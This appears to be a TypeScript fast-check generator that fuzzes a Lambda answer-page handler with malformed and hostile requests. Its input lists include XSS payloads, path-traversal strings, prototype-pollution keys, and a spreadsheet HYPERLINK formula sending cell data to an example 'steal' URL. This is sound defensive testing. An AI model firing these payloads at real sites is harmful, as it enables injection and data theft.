import fc from 'fast-check';
import type { APIGatewayProxyEvent, APIGatewayProxyEventV2 } from 'aws-lambda';

/**
 * Requests to the answer pages as anyone on the internet may send them: mail scanners, old
 * browsers, scripts, people who edit a link by hand, and people who try to break in. Each is
 * kept as the client sends it (method, the link part of the path, query, headers, body bytes),
 * and becomes the API Gateway event the page handler gets on AWS.
 */
export interface GeneratedRequest {
  method: string;
  /** The path's last segment as it is sent, percent-encoding and all. */
  rawLinkId: string;
  /** The path parameter API Gateway hands the function. */
  linkId: string;
  /** The query string without its `?`. */
  query: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** API Gateway delivers the body base64-encoded (it does so for forms and binary content). */
  base64: boolean;
  /** A message the page must show, when the request was built to get it. */
  expectMessage?: string;
}

/** An answer link of the running cohort, with what its page asks. */
export interface KnownLink {
  linkId: string;
  kind: string;
  /** True while the reader's answer would be recorded: the request must then be one the page refuses. */
  answerable: boolean;
}

/** Texts that try to break out of the page, the store or a spreadsheet, or to hide. */
const NASTY = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '{{answerPage.title}}',
  '$t(answerPage.title)',
  '=HYPERLINK("https://example.com/steal?x="&A1,"open")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\u0000',
  '\u0007\u001b[31mred\u001b[0m',
  'evil\u202Egnp.exe',
  '\uFEFFbom',
  'line\u2028separator',
  '💥🧨',
  'Straße İstanbul',
  '../../etc/passwd',
  '%00',
  '%E0%A4%A',
  '__proto__',
  'constructor',
  'NaN',
  ' ',
  '\r\n\r\n',
  '\uFFFD',
];

/** Every value some question accepts, so a generated form is sometimes nearly right. */
const CHOICES = [
  'accept',
  'decline',
  'confirm',
  'changes',
  'endorse',
  'discuss',
  'held',
  'moved',
  'not-held',
  'approve',
  'resume',
  'partly',
  'slipped',
  'yes',
  'no',
  'maybe',
  'weekly',
  'every-two-weeks',
  'monthly',
  'face-to-face',
  'phone',
  'video',
  'email',
  '0',
  '1',
  '2',
  '3',
  '4',
  '5',
  '6',
  '10',
  '-1',
  '1.5',
  '01',
  'stakeholder-management',
  'giving-feedback',
  'strategic-thinking',
  'delegation',
  '2027-02-01T10:00',
  '2027-02-10',
  '14:30',
  '25:00',
  '2030-13-45T99:99',
];

const FIELDS = [
  'answer',
  'note',
  'confirm',
  'confidential',
  'modes',
  'frequency',
  'mode',
  'rating',
  'movedTo',
  'movedAt',
  'continue',
  'satisfaction',
  'recommend',
  'mentorOthers',
  'extend',
  'overall',
  'competency1',
  'description1',
  'baseline1',
  'target1',
  'competency2',
  'description2',
  'baseline2',
  'target2',
  'competency3',
  'description3',
  'baseline3',
  'target3',
];

/** Broken percent-encoding: truncated, not hex, overlong, a lone surrogate half. */
const BROKEN_ESCAPES = ['%E0%A4%A', '%', '%%', '%zz', '%4', '%C0%AF', '%ED%A0%80', '%FF%FE', '%F0%9F%92'];

/** Text long enough to pass any limit: `length` characters that no trimming or stripping removes. */
export const visible = (length: number, pattern = 'We talked about the next steps. ') =>
  pattern
    .repeat(Math.ceil(length / pattern.length) + 1)
    .slice(0, length)
    .replace(/^\s|\s$/g, 'x');

const long = (min: number, max: number) =>
  fc
    .tuple(fc.integer({ min, max }), fc.constantFrom('x', 'é', '<b>', '💥', '=A1 ', '\u0001', '%', 'We talked. '))
    .map(([n, unit]) => unit.repeat(Math.ceil(n / unit.length)));

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...CHOICES) },
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t=', ' ='), fc.string({ maxLength: 30 })).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: long(200, 5_000) },
);

const fieldName = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...FIELDS) },
  { weight: 1, arbitrary: fc.constantFrom('', '__proto__', 'toString', 'a[b]', 'answer[]', 'ANSWER', ' answer', '<script>', 'note\u0000') },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
);

const hex = (byte: number) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;

type Encoding = 'component' | 'form' | 'raw' | 'lower-hex' | 'broken';

/** One name or value on the wire, encoded as a browser would, or not quite. */
const encode = (value: string, how: Encoding, at: number, broken: string) => {
  switch (how) {
    case 'component':
      return encodeURIComponent(value);
    case 'form':
      return new URLSearchParams({ v: value }).toString().slice(2);
    case 'raw':
      return value;
    case 'lower-hex':
      return value.length > 100 ? encodeURIComponent(value).toLowerCase() : [...Buffer.from(value)].map(hex).join('').toLowerCase();
    case 'broken': {
      const proper = encodeURIComponent(value);
      const cut = at % (proper.length + 1);
      return proper.slice(0, cut) + broken + proper.slice(cut);
    }
  }
};

const encoding = fc.record({
  how: fc.constantFrom<Encoding>('component', 'component', 'component', 'form', 'raw', 'lower-hex', 'broken', 'broken'),
  at: fc.nat(),
  broken: fc.constantFrom(...BROKEN_ESCAPES),
});

const pair = fc
  .tuple(fieldName, text, encoding, encoding)
  .map(([name, value, n, v]) => `${encode(name, n.how, n.at, n.broken)}=${encode(value, v.how, v.at, v.broken)}`);

/** A urlencoded form: repeated, missing and oversized fields, odd separators and broken escapes. */
const urlencodedForm = fc
  .tuple(
    fc.array(fc.oneof({ weight: 9, arbitrary: pair }, { weight: 1, arbitrary: fc.constantFrom('', '=', '&', 'answer', '=accept', ';') }), { maxLength: 12 }),
    fc.constantFrom('&', '&', '&', '&&', ';'),
  )
  .map(([pairs, separator]) => pairs.join(separator));

/** Fields a form may hold, in order, before any encoding. */
export const formFields = fc.array(fc.tuple(fieldName, text), { maxLength: 10 });

/** A form serialised properly, the way a browser sends it. */
const properly = (form: URLSearchParams) => form.toString();

const multipart = fc
  .tuple(fc.array(fc.tuple(fieldName, text), { maxLength: 6 }), fc.constantFrom('XyZ123', '----WebKitFormBoundary7MA4YWxkTrZu0gW', ''))
  .map(([fields, boundary]) => ({
    body: Buffer.from(
      fields.map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('') + `--${boundary}--\r\n`,
    ),
    contentType: `multipart/form-data; boundary=${boundary}`,
  }));

const json = fc.oneof(
  fc.dictionary(fieldName, text, { maxKeys: 6 }).map((fields) => JSON.stringify(fields)),
  fc.json({ maxDepth: 3 }),
  fc.constantFrom('{', '[]', 'null', '{"answer":', '"accept"'),
);

/** Bytes that are not UTF-8: stray continuation bytes, overlong forms, surrogates, truncated sequences. */
const invalidUtf8 = fc
  .array(
    fc.oneof(
      fc.constantFrom([0x80], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf0, 0x9f, 0x92], [0xff], [0xfe, 0xff], [0xe0, 0xa4]),
      fc.constantFrom(...'answer=accept&note=hi'.split('').map((c) => [c.charCodeAt(0)])),
    ),
    {
      minLength: 1,
      maxLength: 40,
    },
  )
  .map((chunks) => Buffer.from(chunks.flat()));

const FORM = 'application/x-www-form-urlencoded';

/** A form of about 64 KB, the most a page takes: a few bytes under, at, or over. */
const nearTheLimit = fc.integer({ min: 64 * 1024 - 64, max: 64 * 1024 + 64 }).map((size) => ({
  body: Buffer.from(`answer=accept&note=${'x'.repeat(size - 'answer=accept&note='.length)}`),
  contentType: FORM,
}));

/** A few megabytes: a note that never ends, or markup repeated. */
const huge = fc
  .tuple(fc.integer({ min: 1_000_000, max: 3_000_000 }), fc.constantFrom('note=', 'answer=accept&note=', 'description1=', ''))
  .map(([size, prefix]) => ({
    body: Buffer.concat([Buffer.from(prefix), Buffer.alloc(size, '%3Cscript%3Ealert(1)%3C%2Fscript%3E')]),
    contentType: 'application/x-www-form-urlencoded',
  }));

interface Body {
  body: Buffer;
  contentType: string;
  expectMessage?: string;
}

/** The body and the content type its client would give it. */
const naturalBody: fc.Arbitrary<Body | undefined> = fc.oneof(
  { weight: 15, arbitrary: fc.constant(undefined) },
  { weight: 150, arbitrary: urlencodedForm.map((form) => ({ body: Buffer.from(form), contentType: FORM })) },
  { weight: 20, arbitrary: fc.uint8Array({ maxLength: 2048 }).map((bytes) => ({ body: Buffer.from(bytes), contentType: 'application/octet-stream' })) },
  { weight: 15, arbitrary: invalidUtf8.map((body) => ({ body, contentType: FORM })) },
  { weight: 15, arbitrary: json.map((body) => ({ body: Buffer.from(body), contentType: 'application/json' })) },
  { weight: 15, arbitrary: multipart },
  { weight: 10, arbitrary: urlencodedForm.map((form) => ({ body: Buffer.from(form.replaceAll('&', '\r\n')), contentType: 'text/plain;charset=UTF-8' })) },
  { weight: 2, arbitrary: nearTheLimit },
  // Rare, and enough: each is megabytes.
  { weight: 1, arbitrary: huge },
);

const CONTENT_TYPES = [
  FORM,
  `${FORM}; charset=UTF-8`,
  `${FORM}; charset=ISO-8859-1`,
  `${FORM};charset="utf-16"`,
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/json; charset=utf-8',
  'text/plain',
  'text/html',
  'application/xml',
  '*/*',
  '',
  ';;;',
  'x'.repeat(2000),
];

const headerValue = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 5, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 1, arbitrary: long(1000, 8000) },
);

/** Headers as API Gateway passes them on (names in lower case), with the content type often right, sometimes wrong or missing. */
const headers = (contentType: string | undefined) =>
  fc
    .record(
      {
        'content-type': fc.oneof(
          { weight: 6, arbitrary: fc.constant(contentType) },
          { weight: 3, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
          { weight: 1, arbitrary: fc.constant(undefined) },
        ),
        'accept-language': fc.constantFrom('en', 'de-DE,de;q=0.9', '*', 'xx-invalid', '<script>'),
        'user-agent': headerValue,
        cookie: headerValue,
        'x-forwarded-for': fc.constantFrom('203.0.113.7', '::1', 'unknown, <script>'),
        'content-length': fc.constantFrom('0', '-1', '99999999999', 'abc'),
      },
      { requiredKeys: [] },
    )
    .chain((chosen) =>
      fc.dictionary(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 20 }), headerValue, { maxKeys: 3 }).map((extra) => ({ ...extra, ...chosen })),
    )
    .map((all) =>
      Object.fromEntries(
        Object.entries(all)
          .filter((entry): entry is [string, string] => entry[1] !== undefined)
          .map(([k, v]) => [k.toLowerCase(), v]),
      ),
    );

/** Methods: the three the pages answer, in any case, and others, unknown, empty or very long. */
const method = fc.oneof(
  { weight: 30, arbitrary: fc.constantFrom('GET', 'HEAD', 'POST', 'POST', 'POST') },
  { weight: 4, arbitrary: fc.mixedCase(fc.constantFrom('get', 'head', 'post')) },
  { weight: 4, arbitrary: fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'QUERY') },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Z]{1,12}$/) },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.constantFrom('', ' GET', 'GET ', 'G\u0000ET', 'GÉT', '<script>'),
      fc.integer({ min: 1000, max: 10_000 }).map((n) => 'X'.repeat(n)),
    ),
  },
);

const LINK_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** A link id as written in a path: percent-encoded where a URL must encode it. */
export const inPath = (linkId: string) => encodeURIComponent(linkId);

/** A real link changed the ways people and programs change links: one character, cut, lengthened, encoded, re-cased. */
const alteredLink = (linkId: string) =>
  fc.oneof(
    fc
      .tuple(fc.nat({ max: linkId.length - 1 }), fc.constantFrom(...LINK_ALPHABET, '.', '~', '%', 'é', ' ', '/'))
      .filter(([at, c]) => linkId[at] !== c)
      .map(([at, c]) => linkId.slice(0, at) + c + linkId.slice(at + 1)),
    fc.nat({ max: linkId.length - 1 }).map((n) => linkId.slice(0, n)),
    fc.string({ unit: fc.constantFrom(...LINK_ALPHABET), minLength: 1, maxLength: 60 }).map((tail) => linkId + tail),
    fc.constantFrom(`${linkId}.`, `${linkId}/`, ` ${linkId}`, `${linkId}\u0000`, `${linkId}%`, linkId.toUpperCase(), linkId.toLowerCase()),
  );

/** Link ids that never were one. */
const strangeLink = fc.oneof(
  fc.string({ unit: fc.constantFrom(...LINK_ALPHABET), minLength: 20, maxLength: 64 }),
  fc.constantFrom('', '.', '..', '../..', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'AAAAAAAAAAAAAAAAAAAAAAAA%E0%A4%A', 'null', 'undefined', '__proto__', 'LINK#x'),
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer({ min: 1000, max: 20_000 }).map((n) => 'A'.repeat(n)),
);

/** The path parameter API Gateway would make of the path: decoded where it can be, else as sent. */
const asPathParameter = (raw: string) => {
  try {
    return decodeURIComponent(raw);
  } catch {
    return raw;
  }
};

/** A link written in a path several ways, each of which a client may send. */
const writtenInPath = (linkId: string) =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constant(inPath(linkId)) },
    // Every character percent-encoded, even those that need not be: it decodes to the same link.
    { weight: 1, arbitrary: fc.constant([...Buffer.from(linkId)].map(hex).join('')) },
    { weight: 1, arbitrary: fc.constant(linkId) },
  );

const queryString = fc.oneof(
  { weight: 4, arbitrary: fc.constant('') },
  { weight: 3, arbitrary: fc.constantFrom(...CHOICES).map((answer) => `answer=${answer}`) },
  { weight: 3, arbitrary: urlencodedForm },
  { weight: 1, arbitrary: fc.constantFrom(...NASTY).map((v) => `answer=${encodeURIComponent(v)}&answer=${v}`) },
  { weight: 1, arbitrary: long(1000, 10_000).map((v) => `answer=${encodeURIComponent(v)}`) },
);

/** The query string's parameters, decoded, each name with all its values in order (`__proto__` a name like any other). */
const multiValueQueryParameters = (query: string): Map<string, string[]> | undefined => {
  if (!query) return undefined;
  const parameters = new Map<string, string[]>();
  for (const part of query.split('&')) {
    if (!part) continue;
    const [name, value = ''] = part.split(/=(.*)/s).map((p) => asPathParameter(p.replaceAll('+', ' ')));
    parameters.set(name!, [...(parameters.get(name!) ?? []), value]);
  }
  return parameters;
};

/** The query string's parameters as API Gateway gives them: decoded, repeated names joined by commas. */
const queryParameters = (query: string): Record<string, string> | undefined => {
  if (!query) return undefined;
  return Object.fromEntries([...multiValueQueryParameters(query)!].map(([name, values]) => [name, values.join(',')]));
};

/** How a body is delivered: base64 (as API Gateway delivers forms and binary bodies) or as text. */
const delivery = fc.boolean();

export interface Target {
  /** The link the request is made on, when it is one of the cohort's. */
  known?: KnownLink;
  rawLinkId: string;
  linkId: string;
}

/** Where requests go: real links, real links altered, and link ids that never were. */
export const target = (links: KnownLink[]): fc.Arbitrary<Target> => {
  const byId = new Map(links.map((link) => [link.linkId, link]));
  const resolve = (rawLinkId: string, decode: boolean): Target => {
    const linkId = decode ? asPathParameter(rawLinkId) : rawLinkId;
    return { known: byId.get(linkId), rawLinkId, linkId };
  };
  // Mostly links whose answer would still be recorded, each kind as often: their pages read the form.
  const answerable = links.filter((link) => link.answerable);
  const kinds = [...new Set(answerable.map((link) => link.kind))];
  const real = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...kinds).chain((kind) => fc.constantFrom(...answerable.filter((link) => link.kind === kind))) },
    { weight: 1, arbitrary: fc.constantFrom(...links) },
  );
  return fc
    .tuple(
      fc.oneof(
        { weight: 8, arbitrary: real.chain((link) => writtenInPath(link.linkId)) },
        { weight: 2, arbitrary: real.chain((link) => alteredLink(link.linkId)).map(inPath) },
        { weight: 1, arbitrary: real.chain((link) => alteredLink(link.linkId)) },
        { weight: 3, arbitrary: strangeLink.map((id) => (id.includes('%') ? id : inPath(id))) },
        { weight: 1, arbitrary: strangeLink },
      ),
      // API Gateway decodes the path parameter; a client or proxy may also hand it on as sent.
      fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
    )
    .map(([rawLinkId, decode]) => resolve(rawLinkId, decode));
};

/**
 * A request on a target. A link whose answer would be recorded only gets bodies its page
 * refuses: `refusedBy(kind, form)` says whether a decoded form is certainly refused, and
 * `spoil(kind, form, pick)` makes one that is.
 */
export const requestOn = (
  to: Target,
  refusal: {
    refusedBy: (kind: string, form: URLSearchParams) => boolean;
    spoil: (kind: string, form: URLSearchParams, pick: number) => URLSearchParams;
    nearlyRight: (kind: string) => fc.Arbitrary<{ form: URLSearchParams; expectMessage?: string }>;
  },
): fc.Arbitrary<GeneratedRequest> =>
  fc
    .record({
      method,
      query: queryString,
      natural: to.known
        ? fc.oneof(
            { weight: 4, arbitrary: naturalBody },
            {
              weight: 1,
              arbitrary: refusal
                .nearlyRight(to.known.kind)
                .map(({ form, expectMessage }) => ({ body: Buffer.from(properly(form)), contentType: FORM, expectMessage })),
            },
          )
        : naturalBody,
      base64: delivery,
      pick: fc.nat(),
    })
    .chain(({ natural, ...rest }) => headers(natural?.contentType).map((h) => ({ ...rest, natural, headers: h })))
    .map(({ method: m, query, natural, base64, pick, headers: h }) => {
      let body = natural?.body;
      const known = to.known;
      // Without a body the form is empty, and every kind refuses an empty form.
      if (known?.answerable && body) {
        const form = new URLSearchParams(body.toString('utf8'));
        if (!refusal.refusedBy(known.kind, form)) body = Buffer.from(properly(refusal.spoil(known.kind, form, pick)));
      }
      const expectMessage = body === natural?.body ? natural?.expectMessage : undefined;
      return { method: m, rawLinkId: to.rawLinkId, linkId: to.linkId, query, headers: h, body, base64, expectMessage };
    });

/** The HTTP API's event (payload 2.0) of a request: the legacy entry, which links sent before the REST API still reach. */
export const toHttpEvent = (request: GeneratedRequest): APIGatewayProxyEventV2 => {
  const rawPath = `/r/${request.rawLinkId}`;
  return {
    version: '2.0',
    routeKey: 'ANY /r/{linkId}',
    rawPath,
    rawQueryString: request.query,
    headers: request.headers,
    queryStringParameters: queryParameters(request.query),
    pathParameters: { linkId: request.linkId },
    body: request.body ? (request.base64 ? request.body.toString('base64') : request.body.toString('utf8')) : undefined,
    isBase64Encoded: request.body ? request.base64 : false,
    requestContext: {
      accountId: '000000000000',
      apiId: 'generated',
      domainName: 'answers.example.org',
      domainPrefix: 'answers',
      http: { method: request.method, path: rawPath, protocol: 'HTTP/1.1', sourceIp: '203.0.113.7', userAgent: request.headers['user-agent'] ?? '' },
      requestId: 'generated',
      routeKey: 'ANY /r/{linkId}',
      stage: '$default',
      time: '01/Jan/2027:00:00:00 +0000',
      timeEpoch: 0,
    },
  };
};

/** Header names as a client may write them: the REST API hands them on so. */
const asWritten = (name: string) => name.replace(/(^|-)([a-z])/g, (_, dash: string, c: string) => dash + c.toUpperCase());

/**
 * The REST API's Lambda proxy event (payload 1.0) of a request, as the page handler gets it on
 * AWS. Without binary media types the REST API passes every body on as text.
 */
export const toRestEvent = (request: GeneratedRequest): APIGatewayProxyEvent => {
  const path = `/r/${request.rawLinkId}`;
  const multiValueHeaders = Object.fromEntries(Object.entries(request.headers).map(([name, value]) => [asWritten(name), [value]]));
  const query = multiValueQueryParameters(request.query);
  const multiValueQuery = query ? Object.fromEntries(query) : null;
  return {
    resource: '/r/{linkId}',
    path,
    httpMethod: request.method,
    headers: Object.fromEntries(Object.entries(multiValueHeaders).map(([name, [value]]) => [name, value!])),
    multiValueHeaders,
    queryStringParameters: multiValueQuery && Object.fromEntries(Object.entries(multiValueQuery).map(([name, values]) => [name, values.at(-1)!])),
    multiValueQueryStringParameters: multiValueQuery,
    pathParameters: { linkId: request.linkId },
    stageVariables: null,
    body: request.body ? request.body.toString('utf8') : null,
    isBase64Encoded: false,
    requestContext: {
      accountId: '000000000000',
      apiId: 'generated',
      authorizer: null,
      domainName: 'answers.example.org',
      httpMethod: request.method,
      identity: { sourceIp: '203.0.113.7', userAgent: request.headers['user-agent'] ?? null } as APIGatewayProxyEvent['requestContext']['identity'],
      path,
      protocol: 'HTTP/1.1',
      requestId: 'generated',
      requestTimeEpoch: 0,
      resourceId: 'generated',
      resourcePath: '/r/{linkId}',
      stage: 'answers',
    },
  };
};

/**
 * The event a request reaches the page handler as: through the REST API, or, when its body
 * comes base64-encoded (as only the HTTP API sends a form), through the legacy HTTP API.
 */
export const toEvent = (request: GeneratedRequest): APIGatewayProxyEvent | APIGatewayProxyEventV2 =>
  request.base64 && request.body ? toHttpEvent(request) : toRestEvent(request);
